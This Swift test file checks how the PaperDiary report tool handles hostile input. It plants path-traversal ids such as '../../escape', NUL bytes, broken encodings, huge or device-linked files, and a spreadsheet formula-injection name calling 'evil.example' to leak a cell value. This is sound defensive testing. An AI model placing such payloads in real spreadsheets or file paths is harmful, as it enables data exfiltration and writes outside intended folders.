import Foundation
import GRDB
import PDFTestSupport
import Testing

@testable import PaperDiaryKit

/// Hostile input (DESIGN §2, §5, §7 "Bad input"): each case starts from a copy of `Samples/`,
/// plants one defect and runs the real `paperdiary` as the office would. A defect is either
/// refused — exit 2, a one-line `file:line: [column:] message` first on stderr, the store
/// unchanged — or handled as data: printed literally, and never a file outside the output
/// folder. Every run stays in bounded memory; the output folder cases (read-only, full disk)
/// end with a clear error and nothing recorded as issued.
///
/// Refused imports run against copies of one store imported from `Samples/` (`.importedSample`),
/// so each case costs one import.
@Suite(
  "Hostile input: a clear error or data, bounded memory, nothing outside the output folder",
  .importedSample,
  .needsExecutable)
struct HostileInputTests {
  static let now = "2026-11-27 15:00"
  static let week = "2026-W48"
  /// A run of the executable over the sample stays under this much resident memory (KiB).
  static let memoryCeilingKiB = 200 << 10

  // MARK: - Refused, with the store unchanged

  /// One defect the import must refuse. `plant` puts it in the set and returns the first line
  /// of stderr expected.
  enum Refusal: String, CaseIterable, Sendable, CustomTestStringConvertible {
    case studentIDWithSlash = "a student id with '/'"
    case studentIDDotDot = "a student id '..'"
    case studentIDClimbing = "a student id '../../escape'"
    case studentIDTenThousand = "a student id of 10 000 characters"
    case guardianIDWithSlash = "a guardian id with '/'"
    case classIDDotDot = "a class id '..'"
    case markIDWithSlash = "a mark id with '/..'"
    case studentIDWithNUL = "a student id with a NUL byte"
    case binaryMarks = "marks.csv of 64 KiB of random bytes with NULs"
    case hugeMarks = "a 2 GiB sparse marks.csv"
    case linkToHugeMarks = "marks.csv a link to a 2 GiB sparse file beside the set"
    case linkToDevZero = "marks.csv a link to /dev/zero"
    case hugeSchoolFile = "a 2 GiB sparse school.toml"
    case utf8CutMidCharacter = "UTF-8 cut in the middle of its last character"
    case utf8LoneInvalidByte = "UTF-8 with a lone invalid byte in a name"
    case windows1251Unassigned = "Windows-1251 ending in the unassigned byte 0x98"
    case windows1251CutInQuotes = "Windows-1251 cut inside a quoted name"

    var testDescription: String { rawValue }

    func plant(_ set: HostileSet) throws -> String {
      switch self {
      case .studentIDWithSlash: return try Plant.id(set, "students.csv", "s00142", "s/142")
      case .studentIDDotDot: return try Plant.id(set, "students.csv", "s00142", "..")
      case .studentIDClimbing: return try Plant.id(set, "students.csv", "s00142", "../../escape")
      case .studentIDTenThousand:
        return try Plant.id(
          set, "students.csv", "s00142", String(repeating: "x", count: 10_000),
          shown: String(repeating: "x", count: 40) + "…")
      case .guardianIDWithSlash: return try Plant.id(set, "guardians.csv", "g00151", "g/151")
      case .classIDDotDot: return try Plant.id(set, "classes.csv", "c05a", "..")
      case .markIDWithSlash: return try Plant.id(set, "marks.csv", "m1", "m1/..")
      case .studentIDWithNUL: return try Plant.nulInID(set)
      case .binaryMarks: return try Plant.binaryMarks(set)
      case .hugeMarks:
        try truncate(set.file("marks.csv"), to: twoGiB)
        return Plant.tooLargeMarks
      case .linkToHugeMarks: return try Plant.linkToHugeMarks(set)
      case .linkToDevZero:
        try FileManager.default.removeItem(at: set.file("marks.csv"))
        try FileManager.default.createSymbolicLink(
          atPath: set.file("marks.csv").path, withDestinationPath: "/dev/zero")
        return "marks.csv:1: is a pipe, socket or device, not a regular file: "
          + "put the exported file itself in the import set"
      case .hugeSchoolFile:
        try truncate(set.file("school.toml"), to: twoGiB)
        return "school.toml:1: the file is 2147483648 bytes; a school.toml is a few hundred"
      case .utf8CutMidCharacter: return try Plant.utf8Cut(set)
      case .utf8LoneInvalidByte: return try Plant.utf8LoneByte(set)
      case .windows1251Unassigned: return try Plant.windows1251Unassigned(set)
      case .windows1251CutInQuotes: return try Plant.windows1251CutInQuotes(set)
      }
    }
  }

  static let twoGiB: UInt64 = 2 << 30

  /// The defects of `Refusal`, each planted in a copy of `Samples/`.
  enum Plant {
    static let idRule =
      "is not a valid id (a letter or digit, then up to 63 letters, digits, '_', '.' or '-')"
    static let tooLargeMarks =
      "marks.csv:1: file is 2147483648 bytes, over the limit of 1073741824 bytes (1 GiB)"

    /// The record whose id is `id` gets `planted` instead, in `file` only.
    static func id(
      _ set: HostileSet, _ file: String, _ id: String, _ planted: String, shown: String? = nil
    ) throws -> String {
      let field = HostileSet.quoted(planted)
      try set.edit(file, lineStartingWith: id + ",") { field + $0.dropFirst(id.count) }
      let line = try set.line(startingWith: field + ",", in: file)
      let header = try set.text(file).prefix { $0 != "," }
      return "\(file):\(line): \(header): '\(shown ?? planted)' \(idRule)"
    }

    static func nulInID(_ set: HostileSet) throws -> String {
      let planted = "s00\u{0}142"
      try set.edit("students.csv", lineStartingWith: "s00142,") {
        planted + $0.dropFirst("s00142".count)
      }
      let line = try set.line(startingWith: planted + ",", in: "students.csv")
      return "students.csv:\(line): binary data (NUL byte): export the table as CSV text"
    }

    static func binaryMarks(_ set: HostileSet) throws -> String {
      var noise = SampleRandom(seed: 5, stream: 0)
      var bytes: [UInt8] = []
      for _ in 0..<65_536 { bytes.append(UInt8(truncatingIfNeeded: noise.next())) }
      bytes[1000] = 0
      try set.write("marks.csv", bytes)
      let nul = bytes.firstIndex(of: 0) ?? 1000
      let line = bytes[..<nul].filter { $0 == 0x0A }.count + 1
      return "marks.csv:\(line): binary data (NUL byte): export the table as CSV text"
    }

    static func linkToHugeMarks(_ set: HostileSet) throws -> String {
      let big = set.folder.appendingPathComponent("big.csv")
      #expect(FileManager.default.createFile(atPath: big.path, contents: nil))
      try truncate(big, to: twoGiB)
      try FileManager.default.removeItem(at: set.file("marks.csv"))
      try FileManager.default.createSymbolicLink(at: set.file("marks.csv"), withDestinationURL: big)
      return tooLargeMarks
    }

    /// `subjects.csv` (UTF-8) ends in the middle of its last Cyrillic letter.
    static func utf8Cut(_ set: HostileSet) throws -> String {
      var bytes = Array(try set.text("subjects.csv").utf8)
      while bytes.last == 0x0A { bytes.removeLast() }
      let last = bytes.removeLast()
      #expect(last >= 0x80, "the sample's subjects.csv does not end in a Cyrillic letter")
      try set.write("subjects.csv", bytes)
      let line = bytes.filter { $0 == 0x0A }.count + 1
      let lead = String(bytes.last ?? 0, radix: 16, uppercase: true)
      return "subjects.csv:\(line): broken UTF-8 (byte 0x\(lead) is not part of a character): "
        + "re-save the file as UTF-8 or Windows-1251"
    }

    /// A student's name in the UTF-8 `students.csv` holds the byte 0xFF.
    static func utf8LoneByte(_ set: HostileSet) throws -> String {
      let marker = "\u{FFFD}"
      try set.set("last_name", of: "s00142", in: "students.csv", to: "Орл" + marker + "ва")
      let line = try set.line(startingWith: "s00142,", in: "students.csv")
      let parts = try set.text("students.csv").components(separatedBy: marker)
      #expect(parts.count == 2)
      try set.write("students.csv", Array(parts[0].utf8) + [0xFF] + Array(parts[1].utf8))
      return "students.csv:\(line): broken UTF-8 (byte 0xFF is not part of a character): "
        + "re-save the file as UTF-8 or Windows-1251"
    }

    static func windows1251Unassigned(_ set: HostileSet) throws -> String {
      let bytes = try HostileSet.windows1251(try set.text("subjects.csv")) + [0x98]
      try set.write("subjects.csv", bytes)
      let line = bytes.filter { $0 == 0x0A }.count + 1
      return "subjects.csv:\(line): byte 0x98 is not a character in Windows-1251 nor part of "
        + "valid UTF-8: re-save the file as UTF-8"
    }

    static func windows1251CutInQuotes(_ set: HostileSet) throws -> String {
      var bytes = try HostileSet.windows1251(try set.text("students.csv"))
      bytes += try HostileSet.windows1251("s09999,c05a,\"Ив")
      try set.write("students.csv", bytes)
      let line = bytes.filter { $0 == 0x0A }.count + 1
      return "students.csv:\(line): last_name: quoted field is never closed: "
        + "add the closing '\"'"
    }
  }

  @Test(
    "refused: exit 2, one clear line naming file and line first, the store unchanged",
    arguments: Refusal.allCases)
  func refused(_ refusal: Refusal) throws {
    let sample = try ImportedSample.current()
    let set = try HostileSet("refused", storeCopiedFrom: sample.store)
    let expected = try refusal.plant(set)
    // The first open of a freshly imported store adds a free page (GRDB's WAL probe, see
    // `ImportCommandTests.pages`); open it once so that only the import can change it.
    #expect(try set.run(["ledger", "--store", set.store, "--json"]).status == 0)
    let before = try ImportCommandTests.pages(set.store)

    let run = try set.importSet()
    #expect(run.status == 2, "\(run.stderr)")
    #expect(run.stdout.isEmpty)
    let lines = run.stderrLines
    #expect(lines.first.map(String.init) == expected)
    #expect(lines.last?.hasPrefix("import refused: ") == true, "\(run.stderr)")
    #expect(lines.last?.hasSuffix("nothing was written to the store") == true)
    Self.expectClear(lines)
    #expect(try ImportCommandTests.pages(set.store) == before, "the refused import wrote")
    Self.expectSmall(run)
    #expect(run.seconds < 60, "the import took \(run.seconds) s")
  }

  // MARK: - Handled as data

  /// Windows-1251 cut off in the middle of its last name (quotes balanced) is still text: it is
  /// imported as what it says, cut short, not as mojibake or a crash.
  @Test("Windows-1251 cut in the middle of its last record is imported as the text it holds")
  func windows1251CutShort() throws {
    let sample = try ImportedSample.current()
    let set = try HostileSet("cp1251-cut", storeCopiedFrom: sample.store)
    var text = try set.text("subjects.csv")
    while text.hasSuffix("\n") { text.removeLast() }
    #expect(text.hasSuffix("project,Индивидуальный проект"))
    try set.write("subjects.csv", try HostileSet.windows1251(String(text.dropLast(4))))

    let run = try set.importSet()
    #expect(run.status == 0, "\(run.stderr)")
    Self.expectSmall(run)
    let name = try DatabaseQueue(path: set.store).read { db in
      try String.fetchOne(db, sql: "SELECT name FROM subjects WHERE subject_id = 'project'")
    }
    #expect(name == "Индивидуальный пр")
  }

  /// Ids may hold `.` and `-` and run to 64 characters, so `s..…x` is a valid id; accepted,
  /// it must still never reach a file name, and nothing of the batch may leave `OUT`.
  @Test("ids with '..' that the id rule allows: data, never in a path, nothing outside OUT")
  func pathLikeIDs() throws {
    let set = try HostileSet("path-ids")
    let student = "s" + String(repeating: "..", count: 31) + "x"
    #expect(student.count == 64)
    let ids = [("s00142", student), ("g00151", "g.-..151"), ("c05a", "5..А")]
    for (old, new) in ids { try set.rename(old, to: new) }
    try set.set("name", of: "5..А", in: "classes.csv", to: "../../5А")
    let imported = try set.importSet()
    #expect(imported.status == 0, "\(imported.stderr)")
    Self.expectSmall(imported)

    let before = try set.entries()
    let weekly = try set.weekly(classes: ["5..А"])
    #expect(weekly.status == 0, "\(weekly.stderr)")
    Self.expectSmall(weekly)
    let issued = try set.ledger().filter { $0["kind"] as? String == "weekly" }
    #expect(issued.map { $0["student_id"] as? String } == [student])
    #expect(issued.map { $0["guardian_id"] as? String } == ["g.-..151"])

    let files = try Self.expectInside(set.out)
    #expect(files.contains { $0.hasPrefix("\(Self.week)/sheets/") && $0.hasSuffix(".pdf") })
    for file in files {
      #expect(!file.contains(".."), "\(file)")
      for (_, id) in ids { #expect(!file.contains(id), "\(file) carries the id \(id)") }
    }
    Self.expectNothingBeside(set, before: before)
  }

  /// Names are data: quotes, formula prefixes (`=`, `+`, `-`, `@`) and markup are printed as
  /// written on the sheet and in the register; the JSON PaperDiary writes carries ids only, and
  /// it writes no CSV a spreadsheet could run.
  @Test("names with quotes, formula prefixes and markup are printed literally")
  func namesAreData() throws {
    let set = try HostileSet("names")
    let student = [
      ("last_name", #"=HYPERLINK("http://evil.example/?x="&A1;"Жми")"#),
      ("first_name", "+7(999)"), ("middle_name", "@SUM(A1:A9)"),
    ]
    let guardian = [
      ("last_name", #""Кавычкина""#), ("first_name", "-2+3"),
      ("middle_name", "<b>жирн</b>&amp;{x}%s'"),
    ]
    for (column, value) in student {
      try set.set(column, of: "s00142", in: "students.csv", to: value)
    }
    for (column, value) in guardian {
      try set.set(column, of: "g00151", in: "guardians.csv", to: value)
    }
    let imported = try set.importSet()
    #expect(imported.status == 0, "\(imported.stderr)")

    let before = try set.entries()
    let weekly = try set.run(
      [
        "weekly", "--store", set.store, "--out", set.out.path, "--now", Self.now, "--quiet",
        "--class", "c05a", "--json",
      ])
    #expect(weekly.status == 0, "\(weekly.stderr)")
    let week = set.out.appendingPathComponent(Self.week)
    let sheets = try FileManager.default.contentsOfDirectory(
      atPath: week.appendingPathComponent("sheets").path)
    #expect(sheets.count == 1)
    let registers = try FileManager.default.contentsOfDirectory(
      atPath: week.appendingPathComponent("register").path)
    #expect(registers.count == 1)
    let documents =
      sheets.map { "sheets/\($0)" } + registers.map { "register/\($0)" }
    for document in documents {
      let text = try PDFTool.run(
        "pdftotext", ["-enc", "UTF-8", week.appendingPathComponent(document).path, "-"])
      #expect(text.status == 0, "\(text.errors)")
      // Words may wrap anywhere in a narrow column; compare with the white space taken out.
      let printed = Self.unspaced(text.output)
      for (column, value) in student + guardian {
        #expect(printed.contains(Self.unspaced(value)), "\(document): \(column) «\(value)»")
      }
      #expect(!printed.contains("'=HYPERLINK"), "\(document): the formula was escaped")
    }

    let json = [
      ("weekly --json", weekly.stdout),
      (
        "manifest.json",
        try String(contentsOf: week.appendingPathComponent("manifest.json"), encoding: .utf8)
      ),
      ("ledger --json", try set.run(["ledger", "--store", set.store, "--json"]).stdout),
      (
        "status --json",
        try set.run(["status", "--store", set.store, "--now", Self.now, "--json"]).stdout
      ),
    ]
    for (what, text) in json {
      #expect(throws: Never.self, "\(what) is not JSON") {
        try JSONSerialization.jsonObject(with: Data(text.utf8))
      }
      for value in ["HYPERLINK", "Кавычкина", "+7(999)", "@SUM"] {
        #expect(!text.contains(value), "\(what) carries a name")
      }
    }
    let files = try Self.expectInside(set.out)
    #expect(!files.contains { $0.lowercased().hasSuffix(".csv") }, "a CSV was written: \(files)")
    Self.expectNothingBeside(set, before: before)
  }

  /// Names in scripts the template's families lack are drawn from the machine's fallback
  /// fonts (Droid Sans Fallback, DejaVu), each a face of its own, by two drawing threads at
  /// once: every sheet and register reads back with its names, not boxes.
  @Test("names in other scripts are printed, on two threads")
  func namesInOtherScripts() throws {
    let set = try HostileSet("scripts")
    let names = ["李小龙", "Աբովյան", "მამალაძე", "Ἀλέξανδρος", "𝔄𝔫𝔫𝔞", "Ǆukić"]
    var lines = try set.text("students.csv").split(separator: "\n").map(String.init)
    for index in lines.indices.dropFirst() {
      var fields = lines[index].split(separator: ",", omittingEmptySubsequences: false)
      fields[2] = Substring(names[index % names.count])
      lines[index] = fields.joined(separator: ",")
    }
    try set.write("students.csv", lines.joined(separator: "\n") + "\n")
    let imported = try set.importSet()
    #expect(imported.status == 0, "\(imported.stderr)")

    let weekly = try set.run(
      ["weekly", "--store", set.store, "--out", set.out.path, "--now", Self.now, "--jobs", "2"])
    #expect(weekly.status == 0, "\(weekly.stderr)")
    let week = set.out.appendingPathComponent(Self.week)
    var printed: Set<String> = []
    for folder in ["sheets", "register"] {
      let documents = try FileManager.default.contentsOfDirectory(
        atPath: week.appendingPathComponent(folder).path)
      #expect(documents.count > 1, "\(folder)")
      for document in documents {
        let text = try PDFTool.run(
          "pdftotext",
          ["-enc", "UTF-8", week.appendingPathComponent("\(folder)/\(document)").path, "-"])
        #expect(text.status == 0, "\(text.errors)")
        let found = names.filter { Self.unspaced(text.output).contains($0) }
        #expect(!found.isEmpty, "\(folder)/\(document) shows none of the names")
        printed.formUnion(found)
      }
    }
    #expect(printed == Set(names), "never printed: \(Set(names).subtracting(printed))")
  }

  // MARK: - Output folder read-only or full

  /// How the output folder is made hostile: a tmpfs of `size` mounted on `OUT` in a private
  /// mount namespace (root ignores permission bits, a file system does not), optionally holding
  /// the week's folders already, optionally made read-only.
  struct Disk: Sendable, CustomTestStringConvertible {
    let name: String
    let size: String
    let weekFolders: Bool
    let readOnly: Bool
    let classID: String
    var testDescription: String { name }
  }

  /// What a batch on that disk left: its run, `verify`'s, and the files under `OUT` (relative),
  /// all read inside the namespace before the tmpfs went away with it.
  struct DiskRun {
    let status: Int32
    let stderr: String
    let verifyStatus: Int32
    let verifyOutput: String
    let files: [String]
  }

  static let unwritable: [Disk] = [
    Disk(name: "read-only, empty", size: "1m", weekFolders: false, readOnly: true, classID: "c08a"),
    Disk(
      name: "read-only, the week's folders there", size: "1m", weekFolders: true, readOnly: true,
      classID: "c08a"),
    Disk(
      name: "full from the start", size: "64k", weekFolders: false, readOnly: false,
      classID: "c08a"),
  ]

  @Test(
    "an output folder that takes nothing: a clear error, nothing issued, no temporary file",
    .enabled(if: privateMounts.works, "\(privateMounts.reason)"),
    arguments: unwritable)
  func unwritableOutput(_ disk: Disk) throws {
    let sample = try ImportedSample.current()
    let set = try HostileSet("disk", storeCopiedFrom: sample.store)
    let run = try Self.weekly(on: disk, set)

    #expect(run.status == 1, "\(run.stderr)")
    let lines = run.stderr.split(separator: "\n")
    #expect(!lines.isEmpty)
    Self.expectClear(lines)
    let cause = disk.readOnly ? "Read-only file system" : "No space left on device"
    for line in lines {
      #expect(line.contains(cause), "\(line)")
      #expect(line.contains(set.out.path), "the error does not say where: \(line)")
    }
    // One line says what happened and what to do, not one line per sheet.
    #expect(lines.count == 1, "\(run.stderr)")
    #expect(line(lines, saysWhatToDo: disk.readOnly ? "choose a writable --out" : "free space"))
    let issued = try set.ledger().filter { $0["kind"] as? String == "weekly" }
    #expect(issued.isEmpty, "recorded as issued: \(issued.map { $0["issue_id"] ?? "" })")
    #expect(run.verifyStatus == 0, "\(run.verifyOutput)")
    #expect(!run.files.contains { $0.hasSuffix(".pdf") }, "\(run.files)")
    #expect(!run.files.contains { $0.hasSuffix(".tmp") }, "temporary files left: \(run.files)")
  }

  private func line(_ lines: [Substring], saysWhatToDo advice: String) -> Bool {
    lines.contains { $0.contains(advice) }
  }

  /// The disk fills in the middle of the batch: what fitted is issued with its file whole,
  /// what did not is reported and not recorded, and no temporary file is left.
  @Test(
    "the disk fills during the batch: every recorded sheet has its file, no temporary file",
    .enabled(if: privateMounts.works, "\(privateMounts.reason)"))
  func diskFillsDuringTheBatch() throws {
    let sample = try ImportedSample.current()
    let set = try HostileSet("disk-fills", storeCopiedFrom: sample.store)
    // A sheet of the sample is about 130 KB, so 200k takes the lock, the manifest and one or
    // two of the class's six sheets.
    let disk = Disk(
      name: "fills", size: "200k", weekFolders: false, readOnly: false, classID: "c08a")
    let run = try Self.weekly(on: disk, set)

    #expect(run.status == 1, "the class's six sheets fitted in 200k: \(run.stderr)")
    let lines = run.stderr.split(separator: "\n")
    Self.expectClear(lines)
    for line in lines { #expect(line.contains("No space left on device"), "\(line)") }
    #expect(lines.count == 1, "\(run.stderr)")
    let issued = try set.ledger().filter { $0["kind"] as? String == "weekly" }
    let sheets = run.files.filter { $0.hasPrefix("\(Self.week)/sheets/") }
    let recorded = issued.compactMap { $0["issue_id"] as? String }.map {
      "\(Self.week)/sheets/\($0).pdf"
    }
    #expect(Set(sheets) == Set(recorded), "files and ledger rows differ")
    #expect(issued.count < 6)
    #expect(run.verifyStatus == 0, "\(run.verifyOutput)")
    #expect(!run.files.contains { $0.hasSuffix(".tmp") }, "temporary files left: \(run.files)")
  }

  /// Runs `weekly` for `disk.classID` with `OUT` on the disk described, then `verify`, and
  /// lists `OUT`, in one private mount namespace.
  static func weekly(on disk: Disk, _ set: HostileSet) throws -> DiskRun {
    let executable = try #require(ImportCommandTests.executable)
    try FileManager.default.createDirectory(
      at: set.out, withIntermediateDirectories: false, attributes: [.posixPermissions: 0o700])
    let script = """
      set -u
      mount -t tmpfs -o "size=$SIZE,mode=0700" paperdiary-test "$OUT" || exit 97
      if [ "$WEEK_FOLDERS" = yes ]; then
        for folder in "$OUT/$WEEK" "$OUT/$WEEK/sheets" "$OUT/$WEEK/print" "$OUT/$WEEK/register"
        do mkdir -m 700 "$folder" || exit 98; done
      fi
      if [ "$READ_ONLY" = yes ]; then mount -o remount,ro "$OUT" || exit 99; fi
      "$EXE" weekly --store "$STORE" --out "$OUT" --now "$NOW" --class "$CLASS" --quiet \
        >"$LOGS/weekly.out" 2>"$LOGS/weekly.err"
      echo $? >"$LOGS/weekly.status"
      "$EXE" verify --store "$STORE" >"$LOGS/verify.out" 2>&1
      echo $? >"$LOGS/verify.status"
      cd "$OUT" && find . -type f | sed 's|^\\./||' >"$LOGS/files"
      """
    let process = Process()
    process.executableURL = URL(fileURLWithPath: "/usr/bin/env")
    process.arguments = ["unshare", "--mount", "--propagation", "private", "/bin/sh", "-c", script]
    process.environment = ProcessInfo.processInfo.environment.merging([
      "SIZE": disk.size, "OUT": set.out.path, "WEEK": week,
      "WEEK_FOLDERS": disk.weekFolders ? "yes" : "no", "READ_ONLY": disk.readOnly ? "yes" : "no",
      "EXE": executable.path, "STORE": set.store, "NOW": now, "CLASS": disk.classID,
      "LOGS": set.logs.path,
    ]) { $1 }
    try process.run()
    process.waitUntilExit()
    try #require(process.terminationStatus == 0, "the namespace script failed")
    func read(_ name: String) throws -> String {
      try String(contentsOf: set.logs.appendingPathComponent(name), encoding: .utf8)
    }
    func status(_ name: String) throws -> Int32 {
      try #require(Int32(try read(name).trimmingCharacters(in: .whitespacesAndNewlines)))
    }
    return DiskRun(
      status: try status("weekly.status"), stderr: try read("weekly.err"),
      verifyStatus: try status("verify.status"), verifyOutput: try read("verify.out"),
      files: try read("files").split(separator: "\n").map(String.init))
  }

  /// Whether this machine lets the tests mount a tmpfs in a private mount namespace (root with
  /// CAP_SYS_ADMIN, `unshare` installed), and if not, why.
  static let privateMounts: (works: Bool, reason: String) = {
    let folder = FileManager.default.temporaryDirectory
      .appendingPathComponent("paperdiary-mount-probe-\(UUID().uuidString)")
    defer { try? FileManager.default.removeItem(at: folder) }
    let reason =
      "mounting a tmpfs in a private namespace (unshare --mount, as root) is not permitted "
      + "here, and root ignores permission bits: no read-only or full output folder to test"
    do {
      try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: false)
      let process = Process()
      process.executableURL = URL(fileURLWithPath: "/usr/bin/env")
      process.arguments = [
        "unshare", "--mount", "--propagation", "private", "/bin/sh", "-c",
        "mount -t tmpfs -o size=64k,mode=0700 paperdiary-probe \"$0\" && touch \"$0/x\"",
        folder.path,
      ]
      process.standardOutput = FileHandle.nullDevice
      process.standardError = FileHandle.nullDevice
      try process.run()
      process.waitUntilExit()
      // The file went into the namespace's tmpfs, so none may be here.
      let leaked = FileManager.default.fileExists(atPath: folder.appendingPathComponent("x").path)
      return (process.terminationStatus == 0 && !leaked, reason)
    } catch {
      return (false, reason)
    }
  }()

  // MARK: - Checks

  /// Every line of a diagnostic stream reads as a message, not a crash or a dump.
  static func expectClear(_ lines: [Substring]) {
    #expect(lines.count <= 52, "more than 50 errors and a count: \(lines.count) lines")
    for line in lines {
      #expect(line.count < 400, "an unreadably long line: \(line.prefix(200))…")
      for crash in ["Fatal error", "Stack dump", "Segmentation", "Illegal instruction", "0x0000"] {
        #expect(!line.contains(crash), "\(line)")
      }
      #expect(!line.unicodeScalars.contains { $0.value < 0x20 && $0 != "\t" }, "\(line)")
    }
  }

  static func expectSmall(_ run: HostileSet.Run) {
    guard let peak = run.maxRSSKiB else { return }
    #expect(peak < memoryCeilingKiB, "peak resident memory \(peak / 1024) MiB")
  }

  /// Every file under `out`, symbolic links resolved, lies inside it; returns their paths
  /// relative to `out`.
  @discardableResult
  static func expectInside(_ out: URL) throws -> [String] {
    let root = try #require(resolved(out.path))
    let paths = FileManager.default.enumerator(atPath: out.path)?.allObjects as? [String] ?? []
    for path in paths {
      let real = resolved(out.appendingPathComponent(path).path)
      #expect(real?.hasPrefix(root + "/") == true, "\(path) resolves to \(real ?? "nothing")")
    }
    return paths
  }

  /// A batch writes into `OUT` and the store's own files, nothing else beside them.
  static func expectNothingBeside(_ set: HostileSet, before: Set<String>) {
    let allowed: Set<String> = ["out", "grades.sqlite-wal", "grades.sqlite-shm"]
    let appeared = ((try? set.entries()) ?? []).subtracting(before).subtracting(allowed)
    #expect(appeared.isEmpty, "beside the output folder: \(appeared.sorted())")
  }

  static func resolved(_ path: String) -> String? {
    guard let real = realpath(path, nil) else { return nil }
    defer { free(real) }
    return String(cString: real)
  }

  static func unspaced(_ text: String) -> String { text.filter { !$0.isWhitespace } }

  static func truncate(_ url: URL, to size: UInt64) throws {
    let handle = try FileHandle(forWritingTo: url)
    try handle.truncate(atOffset: size)
    try handle.close()
  }
}

// MARK: - The shared store

/// `Samples/` imported once by the real executable for the suite; cases copy its store.
struct ImportedSampleTrait: SuiteTrait, TestScoping {
  func provideScope(
    for test: Test, testCase: Test.Case?, performing function: @Sendable () async throws -> Void
  ) async throws {
    let sample = try SampleOnDisk(prefix: "paperdiary-hostile-sample")
    try await ImportedSample.$shared.withValue(UncheckedSample(sample)) { try await function() }
  }
}

extension Trait where Self == ImportedSampleTrait {
  static var importedSample: Self { Self() }
}

/// The suite's imported sample, read only by the cases (they copy its store file).
enum ImportedSample {
  @TaskLocal static var shared: UncheckedSample?

  static func current() throws -> SampleOnDisk {
    try #require(shared, "the suite needs the .importedSample trait").sample
  }
}

/// `SampleOnDisk` holds only constants set in `init` and removes its folder in `deinit`, so
/// sharing it between the suite's tasks is safe.
final class UncheckedSample: @unchecked Sendable {
  let sample: SampleOnDisk
  init(_ sample: SampleOnDisk) { self.sample = sample }
}
